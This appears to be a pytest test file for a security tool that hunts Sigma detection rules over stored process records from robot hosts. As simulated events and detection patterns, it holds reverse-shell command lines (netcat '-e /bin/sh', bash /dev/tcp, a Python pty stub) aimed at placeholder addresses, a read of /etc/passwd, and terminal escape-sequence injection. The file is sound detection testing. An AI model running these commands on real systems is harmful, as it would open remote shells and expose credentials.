"""`wachhund hunt` and `wachhund rules try`: rules over what robots told before, on a real ledger."""

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.robots.host_bench import HostBench
from tests.robots.scripted import ScriptedRobot
from tests.unit.host.judge.recording import START, Recording
from wachhund.cli import main
from wachhund.judge.engine import Judge
from wachhund.judge.order import fact_of
from wachhund.judge.rule import Rule
from wachhund.judge.rule_loading import load_rules, rules_in
from wachhund.keeping.moments import parse_since as since
from wachhund.ledger import Robot
from wachhund.rulebook.history import Span, look_back, words_of
from wachhund_evidence import MisuseError, Observation

DAY = 86_400.0
RULE = """
title: Netcat
id: 5b2a8a54-6f4c-4b8e-9d5d-000000000001
name: netcat
logsource: {product: linux, category: process_creation}
detection: {a: {Image|endswith: /nc}, condition: a}
level: high
"""
CHILD = RULE.replace("Image|endswith: /nc", "ParentCommandLine|contains: evil")
THRICE = """---
title: Thrice
id: 5b2a8a54-6f4c-4b8e-9d5d-000000000002
level: high
correlation: {type: event_count, rules: netcat, timespan: 3d, condition: {gte: 3}}
"""


class History:
    """Two robots that told something on several days before now."""

    def __init__(self, folder: Path) -> None:
        self.bench = HostBench(folder)
        self.folder = folder
        self.now = time.time()
        self.robots: dict[str, tuple[ScriptedRobot, Robot]] = {}
        for name in ("go1-07", "go1-08"):
            robot = ScriptedRobot()
            self.robots[name] = robot, self.bench.add(name, robot)

    def tell(self, name: str, days_ago: float, scene: Recording) -> None:
        """What a scene holds arrives at a robot's host so many days ago."""
        robot, row = self.robots[name]
        told = [
            Observation(one.kind, one.t, 50.0 + one.t - START, one.sensor, one.fields)
            for one in (fact.observation for fact in scene.facts)
        ]
        token = robot.token(*told, mono=60.0 + scene._now)
        self.bench.take(row, token, t=self.now - days_ago * DAY)

    def program(self, name: str, days_ago: float, exe: str, argv: list[str] | None = None, **more: Any) -> None:
        """A program starts."""
        scene = Recording()
        scene.process(int(days_ago * 1_000) + 10, exe, argv or [exe], **more)
        self.tell(name, days_ago, scene)


@pytest.fixture
def history(tmp_path: Path) -> Iterator[History]:
    """Netcat four times: 9, 3 and 1 days ago on one robot, 2 days ago on the other; and much else."""
    made = History(tmp_path / "host")
    for days_ago, name, exe in (
        (9, "go1-07", "/bin/nc"), (5, "go1-07", "/bin/ls"), (3, "go1-07", "/bin/nc"), (2, "go1-08", "/bin/nc"),
        (1.5, "go1-08", "/bin/cat"), (1, "go1-07", "/bin/nc"),
    ):  # fmt: skip
        made.program(name, days_ago, exe, [exe, "-l", str(days_ago)])
    yield made
    made.bench.close()


@pytest.fixture
def rule(tmp_path: Path) -> str:
    """A rule file."""
    path = tmp_path / "rule.yml"
    path.write_text(RULE)
    return str(path)


def hunt(history: History, *arguments: str) -> int:
    """Run the command on that host."""
    return main(["hunt", *arguments, "--data", str(history.folder)])


def test_a_hunt_shows_when_where_and_what_and_exits_with_3(
    history: History, rule: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """What somebody learns today about yesterday's attack is asked of yesterday."""
    assert hunt(history, rule) == 3
    *lines, last = capsys.readouterr().out.splitlines()
    assert [line.split("  ")[1] for line in lines] == ["go1-07", "go1-08", "go1-07"]
    assert "Netcat: Image=/bin/nc CommandLine=/bin/nc -l 3 User=root" in lines[0]
    assert last.startswith("3 matches on 2 robots in 5 observations since ")
    assert hunt(history, rule, "--since", "30d", "--robot", "go1-07") == 3
    assert "3 matches on 1 robots" in capsys.readouterr().out
    assert hunt(history, rule, "--since", "12h") == 0
    assert "0 matches on 0 robots in 0 observations" in capsys.readouterr().out


def test_a_hunt_as_json_names_the_evidence(history: History, rule: str, capsys: pytest.CaptureFixture[str]) -> None:
    """From a match a person must come to the signed token."""
    assert hunt(history, rule, "--json", "--since", "36h") == 3
    (told,) = map(json.loads, capsys.readouterr().out.splitlines())
    robot, row = history.robots["go1-07"]
    assert (told["robot"], told["name"], told["rule"]) == (row.id, "go1-07", "5b2a8a54-6f4c-4b8e-9d5d-000000000001")
    assert told["evidence"] == {"chain": robot.chain, "seq": robot.seq, "item": 0}
    assert abs(told["t"] - (history.now - DAY)) < 60
    assert told["values"]["Image"] == "/bin/nc"


def test_a_hunt_finds_what_the_judge_would_have_found(history: History, sigma: Path) -> None:
    """One conversion, one row, one answer: all of SigmaHQ's rules, live and looking back."""
    from wachhund.judge.lookout import Lookout

    for number, argv in enumerate((["crontab", "/tmp/x"], ["nc", "-e", "/bin/sh", "1.2.3.4"], ["base64", "-d", "x"])):
        history.program("go1-08", 0.5 - number / 10, f"/usr/bin/{argv[0]}", argv)
    rules = load_rules((sigma,)).rules
    facts = [fact_of(one) for one in history.bench.ledger.observations_after(0, 1_000)]
    matched = {match.rule.title for match in Lookout(rules).look(facts)}
    live = {one for incident in Judge(rules).feed(facts).incidents for one in incident["rules"]}
    lasting = {f"{rule.title} ({rule.id})" for rule in rules if rule.title in matched and rule.level != "informational"}
    assert live == lasting
    assert len(matched) >= 3


def test_a_parent_from_before_the_span_is_known(history: History, tmp_path: Path) -> None:
    """A rule about the parent's command sees the child of a parent that started an hour before the span."""
    path = tmp_path / "child.yml"
    path.write_text(CHILD)
    parent, child = Recording(), Recording()
    parent.process(70, "/bin/sh", ["sh", "evil"])
    child._exes[70] = "/bin/sh"
    child.process(71, "/bin/id", line=(70,))
    history.tell("go1-07", 0.5, parent)
    history.tell("go1-07", 0.4, child)
    assert hunt(history, str(path), "--since", "10h") == 3


def test_a_correlation_hunts_over_days(history: History, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """With what came before the span, and for each robot by itself."""
    path = tmp_path / "thrice.yml"
    path.write_text(RULE + THRICE)
    assert hunt(history, str(path), "--since", "30d") == 0
    history.program("go1-07", 0.2, "/bin/nc")
    assert hunt(history, str(path), "--since", "10h") == 3
    assert "Thrice" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        (["nothing.yml"], "no file, and no rule of that id"),
        (["RULE", "--since", "soon"], "--since: 'soon': give a span"),
        (["RULE", "--robot", "rex"], "rex"),
        (["BROKEN"], "line 2: not YAML"),
        (["x" * 5_000], "no file, and no rule of that id"),
        (["BLIND"], "can never match here: LogonId"),
        (["RULE", "--data", "/nowhere"], "holds no ledger"),
    ],
)
def test_what_cannot_be_hunted_with_is_one_line_and_status_2(
    history: History, rule: str, tmp_path: Path, arguments: list[str], reason: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """No traceback, and nothing that looks like an empty result."""
    (tmp_path / "broken.yml").write_text("title: [")
    (tmp_path / "blind.yml").write_text(RULE.replace("Image|endswith: /nc", "LogonId: 0"))
    names = {"RULE": rule, "BROKEN": str(tmp_path / "broken.yml"), "BLIND": str(tmp_path / "blind.yml")}
    given = [names.get(one, one) for one in arguments]
    data = [] if "--data" in given else ["--data", str(history.folder)]
    assert main(["hunt", *given, *data]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert reason in line


def test_a_rule_in_use_is_hunted_with_by_its_id_or_title(history: History, capsys: pytest.CaptureFixture[str]) -> None:
    """Also one of the operators' own."""
    history.bench.data.rules.mkdir()
    (history.bench.data.rules / "own.yml").write_text(RULE)
    for wanted in ("Netcat", "netcat", "5b2a8a54-6f4c-4b8e-9d5d-000000000001"):
        assert hunt(history, wanted) == 3
    assert hunt(history, "Vendor tunnel: NPS") == 0


def test_text_of_a_robot_does_nothing_to_a_terminal(
    history: History, rule: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """It is shown as codes, whatever it would make of the screen."""
    history.program("go1-07", 0.1, "/tmp/\x1b[2J/nc", ["\x1b]0;owned\x07", "‮"])
    assert hunt(history, rule, "--since", "5h") == 3
    assert capsys.readouterr().out.isascii()


def test_a_trial_counts_by_robot_and_day_and_saves_nothing(
    history: History, rule: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before a rule counts, one sees what it would have said, and how often."""
    for minute in range(10):
        history.program("go1-07", 1 - minute / 1440, "/bin/nc")
    before = history.bench.ledger.incidents(), history.bench.ledger.judge_cursor()
    assert main(["rules", "try", rule, "--data", str(history.folder)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "Netcat (high)"
    assert lines[1].startswith("14 matches, 4 incidents since ")
    assert lines[1].endswith("nothing is saved")
    counts = [line.split() for line in lines if line.startswith("go1-")]
    assert sum(int(count) for _, _, count, _ in counts) == 14
    assert [raised for *_, raised in counts if raised != "0"] == ["1"] * 4
    assert sum(line.startswith("  ") for line in lines) == 5
    assert (history.bench.ledger.incidents(), history.bench.ledger.judge_cursor()) == before


def test_a_trial_as_json_holds_the_same(history: History, rule: str, capsys: pytest.CaptureFixture[str]) -> None:
    """For programs."""
    assert main(["rules", "try", rule, "--json", "--robot", "go1-08", "--data", str(history.folder)]) == 0
    told = json.loads(capsys.readouterr().out)
    assert [(day["robot"], day["matches"], day["incidents"]) for day in told["days"]] == [("go1-08", 1, 1)]
    assert len(told["newest"]) == 1


def rules_of(*detections: str, category: str = "process_creation") -> list[Rule]:
    """Rules with these detections."""
    made = []
    for number, detection in enumerate(detections):
        text = RULE.replace("{a: {Image|endswith: /nc}, condition: a}", detection)
        text = text.replace("000000000001", f"{number:012d}").replace("process_creation", category)
        made += rules_in(text).rules
    assert len(made) == len(detections)
    return made


@pytest.mark.parametrize(
    ("detections", "words"),
    [
        (["{a: {Image|endswith: /nc}, condition: a}"], ["/nc"]),
        (["{a: {CommandLine|contains: 'nc -e /bin/sh'}, condition: a}"], ["/bin/sh"]),
        (["{a: {CommandLine|contains: ['a b', 'abc']}, condition: a}"], []),
        (["{a: {CommandLine|contains: 'äöü'}, condition: a}"], []),
        (["{a: {ParentCommandLine|contains: abc}, condition: a}"], []),
        (["{a: {Image: abc}, condition: a}", "{a: {User: xyz}, condition: a}"], ["abc", "xyz"]),
        (["{a: {Image: abc}, condition: a}", "{a: {ProcessId: 5}, condition: a}"], []),
    ],
)
def test_what_sqlite_may_leave_out_follows_from_the_rules(detections: list[str], words: list[str]) -> None:
    """A hunt that reads only what may match must not read too little."""
    assert words_of(rules_of(*detections)) == words


def test_connections_are_read_whole() -> None:
    """A rule sees a connection once, so that what came before must be known."""
    assert words_of(rules_of("{a: {Image: abc}, condition: a}", category="network_connection")) == []


def test_a_hunt_that_leaves_most_to_sqlite_finds_what_reading_all_finds(history: History, sigma: Path) -> None:
    """Each rule by itself: with the words that follow from it, and without."""
    told = [
        ["crontab", "/tmp/x"], ["nc", "-e", "/bin/sh", "1.2.3.4"], ["base64", "-d", "x"], ["CHATTR", "-i", "/etc/x"],
        ["bash", "-c", "echo 'it''s' \"100%\" > /dev/tcp/1.2.3.4/5"], ["curl", "-o", "/tmp/ä", "http://x/a_b"], ["id"],
        ["python3", "-c", "import socket;import pty"], ["sh", "-c", "cat /etc/passwd | base64 -d"], ["uname", "-a"],
    ]  # fmt: skip
    for number, argv in enumerate(told):
        history.program("go1-08", 0.9 - number / 100, f"/usr/bin/{argv[0]}", argv)
    found = 0
    for rule in load_rules((sigma,)).rules:
        if rule.category != "process_creation":
            continue
        bare = Rule(**{**vars(rule), "literals": None})
        spans = [look_back(history.bench.ledger, [one], Span(0.0), None) for one in (rule, bare)]
        sieved, whole = ([match.fact.ref for match in matches] for matches in spans)
        assert sieved == whole, rule.title
        found += len(whole)
    assert found >= 8


def test_spans_are_given_in_days_or_as_a_moment() -> None:
    """As people say them."""
    now = 1_800_000_000.0
    assert since("7d", now) == now - 7 * DAY
    assert since("36h", now) == now - 1.5 * DAY
    assert since("999999w", now) == 0.0
    assert since("2026-08-01", now) == 1_785_542_400.0
    for wrong in ("", "7", "7x", "-7d", "7 d", "٧d"):
        with pytest.raises(MisuseError):
            since(wrong, now)
